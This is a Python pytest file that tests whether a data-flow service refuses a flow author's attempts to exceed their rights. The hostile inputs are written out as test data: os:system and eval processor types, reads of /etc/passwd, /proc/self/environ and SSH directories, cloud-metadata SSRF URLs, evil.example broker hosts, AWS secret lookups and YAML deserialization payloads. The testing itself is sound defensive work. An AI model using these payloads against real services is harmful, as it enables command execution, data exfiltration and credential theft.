"""Attacks by an author of flows who wants a shell, files, secrets, and topics and data of others.

The author may manage the flow, publish to the topic `clicks`, and consume from its channels.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import pytest

from tests.services.attacks_kit import FLOW, MARK, AttackedInstallation

SHELLS = [
    *("{type: SparkScript, properties: {function: 'os:system'}}", "{type: SparkScript}"),
    *("{type: 'os:system'}", "{type: 'subprocess:Popen'}", "{type: 'builtins:eval'}"),
    "{type: 'penstock.spark.flow.script:SparkScript', properties: {function: 'os:system'}}",
    *("{type: 'penstock.flow.processors.files.get_file:GetFile'}", "{type: ExecuteProcess}"),
    *("{type: ExecuteStreamCommand}", "{type: ExecuteScript}", "{type: sparkscript}"),
    *(
        "{type: 'SparkScript '}",
        "{type: getfile}",
        "{type: 'my.module:Mine'}",
        "{type: '__main__:X'}",
    ),
    *("{type: 'importlib:import_module'}", "{type: 'penstock.services.cli:main'}"),
]
FILES = [
    *("{type: GetFile, properties: {directory: /etc}}", "{type: ListFiles}", "{type: FetchFile}"),
    *("{type: TailFile, properties: {file: /proc/self/environ}}", "{type: PutFile}"),
    "{type: PutFile, properties: {directory: /root/.ssh}}",
    "{type: FetchFile, properties: {file: '${path}'}}",
]
SERVERS = [
    "{type: InvokeHTTP, properties: {url: 'http://169.254.169.254/latest/meta-data'}}",
    "{type: InvokeHTTP, properties: {url: 'http://localhost:8888/druid/v2/sql', method: POST}}",
    "{type: InvokeHTTP, properties: {url: '${url}'}}",
    "{type: ListenHTTP, properties: {port: 0, host: 0.0.0.0}}",
    "{type: SparkSQL, properties: {all: 'SELECT * FROM payments'}}",
    "{type: PublishTopic, properties: {topic: clicks, broker_url: 'http://localhost:4151'}}",
    "{type: PublishTopic, properties: {topic: clicks, broker_url: 'http://evil.example'}}",
    "{type: ConsumeTopic, properties: {topic: clicks, channel: c, addresses: 'evil.example:1'}}",
    "{type: ConsumeTopic, properties: {topic: clicks, channel: c, addresses: [evil, other]}}",
    "{type: ConsumeTopic, properties: {topic: clicks, channel: c, lookup: 'http://evil.example'}}",
    "{type: PutDatasource, properties: {datasource: clicks, overlord_url: 'http://evil.example'}}",
]
OF_OTHERS = [
    *(
        f"{{type: PublishTopic, properties: {{topic: {name}}}}}"
        for name in (
            *(
                "payments",
                "clicks-secret",
                "'clicks '",
                "' clicks'",
                "Clicks",
                "'clicks#ephemeral'",
            ),
            *(
                "'${name}'",
                "'clicks${name}'",
                "'#{name}'",
                "'##{name}'",
                "'$${name}'",
                "''",
                "[clicks]",
            ),
            *(
                "'clicks\\n'",
                "1",
                "true",
                "~",
                '"\\u0063licks-secret"',
                "'*'",
                "'clicks*'",
                "'clicks/x'",
            ),
        )
    ),
    *(
        f"{{type: ConsumeTopic, properties: {{topic: {topic}, channel: {channel}}}}}"
        for topic, channel in (
            *(("payments", "c"), ("clicks-secret", "c"), ("clicks-secret", "'*'")),
            *(("'${t}'", "c"), ("clicks", "'${c}'"), ("clicks", "'#{c}'"), ("''", "c")),
            *(("clicks", "''"), ("Clicks", "c"), ("payments/clicks", "c"), ("[clicks]", "c")),
        )
    ),
    "{type: ConsumeTopic, properties: {topic: clicks}}",
    "{type: ConsumeTopic, properties: {channel: c}}",
    "{type: PublishTopic, properties: {Topic: clicks}}",
    "{type: PublishTopic}",
    *(
        f"{{type: PutDatasource, properties: {{datasource: {name}}}}}"
        for name in ("payments", "clicks", "'${d}'", "'#{d}'", "''")
    ),
]
SECRETS = [
    "{type: PublishTopic, properties: {topic: clicks, broker_token: 'secret://bank'}}",
    "{type: ConsumeTopic, properties: {topic: clicks, channel: c, auth_secret: 'secret://bank'}}",
    "{type: GenerateFlowFile, properties: {content: 'secret://bank'}}",
]
PARAMETERS = [
    *("{file: /etc/passwd}", "{file: /etc/passwd, sensitive: false}", "{file: /proc/self/environ}"),
    *("{env: AWS_SECRET_ACCESS_KEY}", "{env: AWS_SECRET_ACCESS_KEY, sensitive: false}"),
    *("{env: PENSTOCK_TOKEN, sensitive: false}", "{secret: bank}", "'secret://bank'"),
    *("{file: access/process.key}", "{file: ../access/operator.token}", "{env: PATH}"),
]
PRIORITIZERS = ["my_module:Mine", "os:system", "penstock.flow.prioritizers:FirstInFirstOut"]
PLACES = {
    "at the top": "name: flow\nprocessors: {{P: {}}}\n",
    "in a group": "name: flow\ngroups: {{G: {{groups: {{H: {{processors: {{P: {}}}}}}}}}}}\n",
}


def flows() -> Iterator[tuple[str, str]]:
    for one in (*SHELLS, *FILES, *SERVERS, *OF_OTHERS, *SECRETS):
        for place, form in PLACES.items():
            yield f"{one} {place}", form.format(one)
    for one in PARAMETERS:
        yield f"parameter {one}", f"{FLOW}parameters: {{P: {one}}}\n"
        yield f"context {one}", f"{FLOW}parameter_contexts: {{C: {{parameters: {{P: {one}}}}}}}\n"
    for one in PRIORITIZERS:
        ends = f"{{from: a, to: b, prioritizers: ['{one}']}}"
        yield f"prioritizer {one}", f"name: flow\nfunnels: [a, b]\nconnections: [{ends}]\n"
    for name in ("other", "Flow", "flow ", "*", "flow2", "system:access"):
        yield f"another flow {name!r}", FLOW.replace("name: flow", f"name: '{name}'")


FLOWS = dict(flows())
HOSTILE_YAML = [
    *(
        "!!python/object/apply:os.system ['id']",
        "name: !!python/name:os.system",
        "!!python/module:os",
    ),
    "name: flow\nprocessors: !!python/object:penstock.flow.Flow {}\n",
    "a: &a [x, x]\nb: &b [*a, *a]\nname: flow\nprocessors: *b\n",
    "name: flow\nprocessors: {Make: &p {type: GetFile}, More: *p, <<: {Q: {type: SparkScript}}}\n",
    "name: flow\nname: other\nprocessors: {}\n",
    *("--- {name: flow}\n--- {name: other}\n", "name: [", "", "\0", "[[[[" * 1_000, "x: " * 1_000),
]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AttackedInstallation]:
    made = AttackedInstallation(tmp_path_factory.mktemp("attacked"))
    yield made
    made.close()


def test_there_are_many_different_flows() -> None:
    assert len(set(FLOWS.values())) == len(FLOWS) > 120


@pytest.mark.parametrize("about", FLOWS)
def test_a_flow_beyond_the_rights_of_its_author_is_refused(
    attacked: AttackedInstallation, about: str
) -> None:
    before = attacked.ask("admin", "GET", "/flow").text
    for method, path in (
        *(("PUT", "/flow"), ("PUT", "/flow?dryRun=true"), ("PUT", "/flow?revision=1")),
        ("POST", "/flow/validate"),
    ):
        answer = attacked.ask("author", method, path, content=FLOWS[about])
        # A name that no component can have is refused before the rights are known.
        is_odd = "flow '" in about or " '}" in about
        assert answer.status_code in ({400, 403} if is_odd else {403})
        assert MARK not in answer.text
        assert "root:" not in answer.text
    assert attacked.ask("admin", "GET", "/flow").text == before


@pytest.mark.parametrize("number", range(len(HOSTILE_YAML)))
def test_hostile_documents_are_refused(attacked: AttackedInstallation, number: int) -> None:
    before = attacked.ask("admin", "GET", "/flow").text
    for method, path in (("PUT", "/flow"), ("POST", "/flow/validate")):
        answer = attacked.ask("author", method, path, content=HOSTILE_YAML[number])
        assert answer.status_code in {400, 403}
    assert attacked.ask("admin", "GET", "/flow").text == before


@pytest.mark.parametrize(
    ("who", "method", "path"),
    [
        (who, method, path)
        for who, (method, path) in itertools.product(
            ("nothing", "publisher-clicks", "analyst-clicks", "submitter", "keeper"),
            (
                *(("GET", "/flow"), ("GET", "/flow?format=yaml"), ("GET", "/flow/status")),
                *(("GET", "/flow/bulletins"), ("POST", "/flow/start"), ("POST", "/flow/stop")),
                *(("POST", "/flow/run-once?target=Make"), ("POST", "/flow/terminate?target=Make")),
                *(("GET", "/flow/queue?connection=c"), ("POST", "/flow/queue/drop?connection=c")),
                *(("GET", "/flow/queue/drop?request=1"), ("DELETE", "/flow/queue/drop?request=1")),
                *(("GET", "/flow/queue/count?connection=c&attribute=a"), ("PUT", "/flow")),
                ("POST", "/flow/validate"),
            ),
        )
    ],
)
def test_others_neither_see_nor_operate_the_flow(
    attacked: AttackedInstallation, who: str, method: str, path: str
) -> None:
    before = attacked.ask("admin", "GET", "/flow").text
    answer = attacked.ask(who, method, path, content=FLOW if method in {"PUT", "POST"} else "")
    assert answer.status_code == 403
    assert "Make" not in answer.text
    assert attacked.ask("admin", "GET", "/flow").text == before


def test_the_author_may_do_what_it_may(attacked: AttackedInstallation) -> None:
    fine = "{type: PublishTopic, properties: {topic: clicks}, auto_terminated: [failure, success]}"
    for one in (FLOW, PLACES["at the top"].format(fine)):
        assert attacked.ask("author", "PUT", "/flow?dryRun=true", content=one).status_code != 403
